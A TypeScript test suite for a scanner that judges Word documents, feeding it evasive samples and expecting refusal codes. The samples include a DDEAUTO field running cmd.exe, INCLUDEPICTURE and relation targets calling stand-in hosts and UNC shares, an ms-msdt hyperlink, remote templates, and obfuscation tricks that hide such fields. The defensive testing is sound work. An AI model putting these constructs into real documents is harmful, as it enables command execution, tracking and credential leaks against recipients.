import { describe, expect, test } from 'vitest';
import { createJudge } from './testing/judge.ts';
import { sampleDoc, sampleZip } from './testing/samples.ts';
import { field, fieldIn, officeKind, related, word, wordBody } from './testing/word-samples.ts';

const { judge } = await createJudge();

/** Word documents as an outside reader of XML sees them: relations, types and fields in every spelling (rule 53). */

const external = ' TargetMode="External"';
const template = `Type="${officeKind}/attachedTemplate"`;
const tracked = 'https://evil.example/p.png';

describe('a relation that leaves the document is refused in every spelling', () => {
  test.each<[string, Buffer, string]>([
    [
      'another attribute within its target',
      related(`Id="r" Target="https://evil.example/t.dotm?Type='x/image'" ${template}${external}`),
      'contenido_externo',
    ],
    [
      'an object, in the same way',
      related(
        `Id="r" Target="https://evil.example/t?Type='x/image'!" Type="${officeKind}/oleObject"${external}`,
      ),
      'contenido_externo',
    ],
    [
      'an attribute of another vocabulary before it',
      related(`xmlns:q="u" q:Type="x/image" Id="r" ${template} Target="https://evil.example/t"${external}`),
      'contenido_externo',
    ],
    [
      'attributes of another vocabulary that say what is good',
      related(
        `xmlns:q="u" q:Type="${officeKind}/hyperlink" Id="r" Target="https://gob.mx" Type="${officeKind}/hyperlink"${external}`,
      ),
      'danado',
    ],
    ['an attribute twice', related(`Id="r" ${template} ${template} Target="a.xml"`), 'danado'],
    [
      'a mode in other letters',
      related(`Id="r" Type="${officeKind}/image" Target="${tracked}" TargetMode="external"`),
      'contenido_externo',
    ],
    [
      'a mode with a space, for a link',
      related(`Id="r" Type="${officeKind}/hyperlink" Target="https://gob.mx" TargetMode=" External"`),
      'danado',
    ],
    [
      'an address without a mode',
      related(`Id="r" Type="${officeKind}/image" Target="${tracked}"`),
      'contenido_externo',
    ],
    [
      'a kind that nobody knows',
      related(`Id="r" Type="${officeKind}/novedad" Target="a.xml"`),
      'con_objetos',
    ],
    [
      'a kind that every object of the language has',
      related(`Id="r" Type="${officeKind}/constructor" Target="https://evil.example"${external}`),
      'contenido_externo',
    ],
    [
      'the other edition of the standard',
      related(`Id="r" Type="http://purl.oclc.org/ooxml/officeDocument/relationships/aFChunk" Target="a.xml"`),
      'con_objetos',
    ],
    [
      'a kind with a space before it',
      related(`Id="r" Type=" ${officeKind}/styles" Target="styles.xml"`),
      'con_objetos',
    ],
    [
      'a text under the name of a picture',
      related(`Id="r" Type="${officeKind}/header" Target="media/image1.png"`),
      'con_objetos',
    ],
    [
      'a part whose name climbs',
      related(`Id="r" Type="${officeKind}/image" Target="..%5C..%2Fa.png"`),
      'contenido_externo',
    ],
    [
      'a program as data',
      related(
        `Id="r" Target="a.dat#Type='x'" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject"`,
      ),
      'contenido_externo',
    ],
    [
      'a program in signs',
      related(
        `Id="r" Target="a.dat" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProjec&#116;"`,
      ),
      'con_macros',
    ],
    ['an element that is none of relations', word({ 'word/_rels/document.xml.rels': '<a/>' }), 'danado'],
    ['relations that do not end', word({ 'word/_rels/document.xml.rels': '<Relationships>' }), 'danado'],
    [
      'in the relations of a header',
      related(
        `Id="r" Type="${officeKind}/image" Target="${tracked}"${external}`,
        'word/_rels/header1.xml.rels',
      ),
      'contenido_externo',
    ],
    [
      'in those of own data',
      related(
        `Id="r" Type="${officeKind}/image" Target="${tracked}"${external}`,
        'customXml/_rels/item1.xml.RELS',
      ),
      'contenido_externo',
    ],
  ])('%s', async (_, bytes, code) => {
    expect(await judge(bytes, 'docx')).toBe(code);
  });

  test.each([
    tracked,
    'file:///\\\\evil\\p.png',
    'file:///%5C%5Cevil%5Cp.png',
    'file:\\\\\\\\evil\\p.png',
    'file:/\\\\evil/p.png',
    '\\/evil\\p.png',
    '/\\evil\\p.png',
    '\\??\\UNC\\evil\\p',
    '&#x200b;\\\\evil\\p.png',
    '&#92;&#92;evil\\p.png',
    '//evil/p.png',
    'file://evil/p.png',
    'file:///Users/..//evil/p.png',
    'file:///C:/a/%2e%2e/%2e%2e//evil/p.png',
    'file:///C:/a%252fb.png',
    'file://localhost//evil/p.png',
    'p.png',
    'ftp://evil.example/p.png',
  ])('a picture or template at %s', async (target) => {
    for (const kind of ['image', 'attachedTemplate'])
      expect(
        await judge(related(`Id="r" Type="${officeKind}/${kind}" Target="${target}"${external}`), 'docx'),
      ).toBe('contenido_externo');
  });
});

describe('what a part is declared to be', () => {
  const typed = (declaration: string): Buffer => word({}, declaration);
  test.each<[string, Buffer, string]>([
    [
      'a program in signs',
      typed('<Override PartName="/word/a.dat" ContentType="application/vnd.ms-office.vba&#80;roject"/>'),
      'con_macros',
    ],
    [
      'a document with macros in signs',
      typed(
        '<Default Extension="dat" ContentType="application/vnd.ms-word.document.macro&#69;nabled.main+xml"/>',
      ),
      'con_macros',
    ],
    [
      'a text under the name of a picture',
      typed(
        '<Override PartName="/word/media/a.png" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>',
      ),
      'con_objetos',
    ],
    [
      'by an extension',
      typed(
        '<Default Extension="png" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.header+xml"/>',
      ),
      'con_objetos',
    ],
    ['a page', typed('<Override PartName="/word/a.xml" ContentType="text/html"/>'), 'con_objetos'],
    [
      'what nobody knows',
      typed('<Override PartName="/word/a.dat" ContentType="application/x-new"/>'),
      'con_objetos',
    ],
    [
      'an attribute that types do not have',
      typed('<Default Extension="png" ContentType="image/png" xmlns:q="u" q:ContentType="image/png"/>'),
      'danado',
    ],
  ])('%s is refused', async (_, bytes, code) => {
    expect(await judge(bytes, 'docx')).toBe(code);
  });
});

describe('a field that calls a program or fetches something is refused', () => {
  const dde = 'DDEAUTO c:\\\\cmd.exe "/k calc"';
  const run = (xml: string): string => `<w:r>${xml}</w:r>`;
  const text = (code: string): string => run(`<w:instrText>${code}</w:instrText>`);
  test.each<[string, Buffer]>([
    ['a letter in signs', wordBody(text(`&#68;${dde.slice(1)}`))],
    ['marked as plain text', wordBody(text(`<![CDATA[${dde}]]>`))],
    ['another prefix', wordBody(`<x:p xmlns:x="u"><x:instrText>${dde}</x:instrText></x:p>`)],
    ['single quotes', wordBody(`<w:fldSimple w:instr='${dde}'/>`)],
    ['small letters', wordBody(field(text('ddeauto c:\\\\cmd.exe x')))],
    ['cut into runs', wordBody(field(text('DD') + text('EA') + text('UTO c:\\\\cmd.exe x')))],
    ['cut by a comment', wordBody(field(text('DD<!-- x -->EAUTO c:\\\\cmd.exe x')))],
    ['cut into paragraphs', wordBody(`${field(`${text('DDE')}</w:p><w:p>${text(' cmd x')}`)}`)],
    ['in text that is no code', wordBody(field(run(`<w:t>${dde}</w:t>`)))],
    [
      'in a code that is taken out',
      wordBody(field(`<w:del>${run('<w:delInstrText>PAGE </w:delInstrText>')}</w:del>${text(dde)}`)),
    ],
    ['in a code that is put in', wordBody(field(`<w:ins>${text('PAGE ')}</w:ins>${text(dde)}`))],
    ['with signs that nobody sees', wordBody(field(text(`&#x200b;\u00a0${dde}`)))],
    ['in a header', word({ 'word/header1.xml': fieldIn('hdr', dde) })],
    ['in UTF-16', word({ 'word/header1.xml': Buffer.from(`\ufeff${fieldIn('hdr', dde)}`, 'utf16le') })],
    [
      'in what a reader may pass over',
      wordBody(
        field(
          `<mc:AlternateContent xmlns:mc="m"><mc:Choice>${text('PAGE ')}</mc:Choice></mc:AlternateContent>${text(dde)}`,
        ),
      ),
    ],
    ['in a field within another', wordBody(field(text('IF 1 = 1 ') + field(text(dde))))],
    ...['del', 'moveFrom', 'ins'].flatMap((revision): [string, Buffer][] =>
      ['separate', 'end'].map((mark) => [
        `behind a mark ${mark} in ${revision}`,
        wordBody(
          `${run('<w:fldChar w:fldCharType="begin"/>')}<w:${revision}>${run(`<w:fldChar w:fldCharType="${mark}"/>`)}</w:${revision}>${run(`<w:t>${dde}</w:t>`)}${run('<w:fldChar w:fldCharType="end"/>')}`,
        ),
      ]),
    ),
    ['that does not end', wordBody(run('<w:fldChar w:fldCharType="begin"/>') + text(dde))],
  ])('%s', async (_, bytes) => {
    expect(await judge(bytes, 'docx')).toBe('con_macros');
  });

  test.each([
    'INCLUDEPICTURE "\\\\\\\\evil\\\\p.png" \\d',
    'INCLUDEPICTURE "https://evil.example/p.png" \\* MERGEFORMATINET',
    'INCLUDEPICTURE \\c "cid:x" "\\\\\\\\evil.example\\\\s\\\\p.png" \\d',
    'INCLUDEPICTURE "cid:x" \\c "\\\\\\\\evil.example\\\\s\\\\p.png"',
    'INCLUDEPICTURE \\# "" "\\\\\\\\evil.example\\\\s\\\\p.png"',
    'INCLUDEPICTURE "" "\\\\\\\\evil.example\\\\s\\\\p.png"',
    'INCLUDEPICTURE \\t "\\\\\\\\evil.example\\\\s\\\\p.png"',
    'INCLUDEPICTURE \\o "\\\\\\\\evil.example\\\\s\\\\p.png" "cid:x"',
    'INCLUDEPICTURE \\* MERGEFORMAT cid:x \\\\\\\\evil.example\\\\s\\\\p.png',
    'INCLUDEPICTURE "cid:x" "https://evil.example/p.png"',
    'INCLUDETEXT "C:\\\\a.docx"',
    'LINK Excel.Sheet.12 "C:\\\\a.xlsx" "Hoja1" \\a',
    'IMPORT "\\\\\\\\evil\\\\p.png"',
    'DATABASE \\d "\\\\\\\\evil\\\\a.mdb"',
    'RD "\\\\\\\\evil\\\\a.docx"',
    'VERKNÜPFUNG "C:\\\\a.xlsx"',
    'HYPERLINK "\\\\\\\\evil\\\\a"',
    'HYPERLINK \\o "Aquí" "ms-msdt:/id x"',
  ])('%s', async (code) => {
    const escaped = code.replaceAll('"', '&quot;');
    expect(await judge(wordBody(`<w:fldSimple w:instr="${escaped}"/>`), 'docx')).toBe('contenido_externo');
    expect(await judge(wordBody(field(text(escaped))), 'docx')).toBe('contenido_externo');
  });

  test('whose name another field gives', async () => {
    expect(await judge(wordBody(field(`${field(text('QUOTE 68 68 69'))}${text(' cmd x')}`)), 'docx')).toBe(
      'contenido_externo',
    );
  });

  test.each([
    ['INCLUDEPICTURE "\\\\\\\\evil\\\\p.png"', 'contenido_externo'],
    ['INCLUDEPICTURE \\c "cid:x" "\\\\\\\\evil\\\\p.png" \\d', 'contenido_externo'],
    ['LINK Excel.Sheet.8 "\\\\\\\\evil\\\\a.xls"', 'contenido_externo'],
    ['dde cmd x', 'con_macros'],
    ['HYPERLINK "\\\\\\\\evil\\\\s"', 'contenido_externo'],
    ['HYPERLINK "file://evil/s" \x13 PAGE \x15', 'contenido_externo'],
    ['HYPERLINK "https://www.gob.mx" \\o "Sitio // oficial" \x01', 'ok'],
    ['HYPERLINK \\l "_Toc123"', 'ok'],
    ['INCLUDEPICTURE "cid:image001.png@01D0" \\* MERGEFORMATINET', 'ok'],
  ])('of an old document: %s', async (code, expected) => {
    for (const blank of ['', ' ', '\t', '\r\n', '\xa0', ' '.repeat(60)])
      for (const encoding of ['utf16le', 'latin1'] as const) {
        const doc = sampleDoc();
        Buffer.from(`\x13${blank}${code} \x14`, encoding).copy(doc, doc.length - 2048);
        expect(await judge(doc, 'doc'), JSON.stringify(blank)).toBe(expected);
      }
  });
});

describe('other ways to fetch or to hide', () => {
  const vml = 'xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office"';
  test.each<[string, Buffer, string]>([
    ['a drawing with an address', wordBody(`<v:imagedata ${vml} src="${tracked}"/>`), 'contenido_externo'],
    [
      'or with one for the original',
      wordBody(`<v:fill ${vml} o:href="\\\\evil\\p.png"/>`),
      'contenido_externo',
    ],
    [
      'a drawing whose link is hostile',
      wordBody(`<v:shape ${vml} href="file://evil/a"/>`),
      'contenido_externo',
    ],
    [
      'an object that is linked',
      wordBody(`<o:OLEObject ${vml} Type="Link" ProgID="Excel.Sheet.12"/>`),
      'con_objetos',
    ],
    [
      'an object of another program',
      wordBody(`<o:OLEObject ${vml} Type="Embed" ProgID="Package"/>`),
      'con_objetos',
    ],
    ['a film of the web', wordBody('<wp15:webVideoPr xmlns:wp15="u" embeddedHtml="x"/>'), 'con_objetos'],
    ['a chapter', wordBody('<w:altChunk/>'), 'con_objetos'],
    [
      'letters for a data source',
      wordBody('<w:connectString w:val="Data Source=//evil"/>'),
      'contenido_externo',
    ],
    [
      'a share from which links start',
      word({ 'docProps/app.xml': '<Properties><HyperlinkBase>\\\\evil\\a</HyperlinkBase></Properties>' }),
      'contenido_externo',
    ],
    [
      'a formula that asks the web',
      word({ 'xl/a.xml': '<f>_xlfn.WEBSERVICE("https://evil")</f>' }),
      'con_macros',
    ],
    [
      'a style sheet',
      word({ 'word/a.xml': '<?xml-stylesheet href="https://evil"?><a/>' }),
      'contenido_externo',
    ],
    ['another encoding', word({ 'word/a.xml': '<?xml version="1.0" encoding="utf-7"?><a/>' }), 'danado'],
    [
      'an encoding that is not the declared one',
      word({ 'word/a.xml': '<?xml version="1.0" encoding="utf-16"?><a/>' }),
      'danado',
    ],
    ['text that is no UTF-8', word({ 'word/a.xml': Buffer.from('<a>\xf1</a>', 'latin1') }), 'danado'],
    ['XML that is cut off', word({ 'word/a.xml': '<a><b>' }), 'danado'],
    ['an entity that nobody defines', word({ 'word/a.xml': '<a>&nada;</a>' }), 'danado'],
    ['definitions', word({ 'word/a.xml': '<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>' }), 'con_macros'],
    ['a name in signs', word({ 'word/_rels/a.xml%2Erels': '<a/>' }), 'danado'],
    ['one name in two spellings', word({ 'word/%64ocument.xml': '<a/>' }), 'danado'],
    ['relations in signs', word({ 'word/_rels/a.xml.%72els': '<a/>' }), 'danado'],
    ['a part in pieces', word({ 'word/a.xml/[0].piece': '<a/>' }), 'con_objetos'],
    [
      'a code beside one of another vocabulary',
      wordBody('<w:fldSimple xmlns:z="z" z:instr="PAGE" w:instr="DDEAUTO cmd x"/>'),
      'danado',
    ],
    [
      'a field that begins in one vocabulary and ends in another',
      wordBody('<w:fldChar xmlns:z="z" z:fldCharType="end" w:fldCharType="begin"/>'),
      'danado',
    ],
    [
      'an object with two names',
      wordBody(
        `<o:OLEObject ${vml} xmlns:z="z" z:Type="Embed" z:ProgID="Excel.Sheet.12" Type="Link" ProgID="Package"/>`,
      ),
      'danado',
    ],
    ['depth without end', word({ 'word/a.xml': '<a>'.repeat(100_000) }), 'desmedido'],
    ['fields within fields', wordBody('<w:fldChar w:fldCharType="begin"/>'.repeat(200)), 'danado'],
    ['an archive that is none', sampleZip([{ name: 'word/document.xml', data: 'x' }]), 'danado'],
  ])('%s', async (_, bytes, code) => {
    expect(await judge(bytes, 'docx')).toBe(code);
  });
});
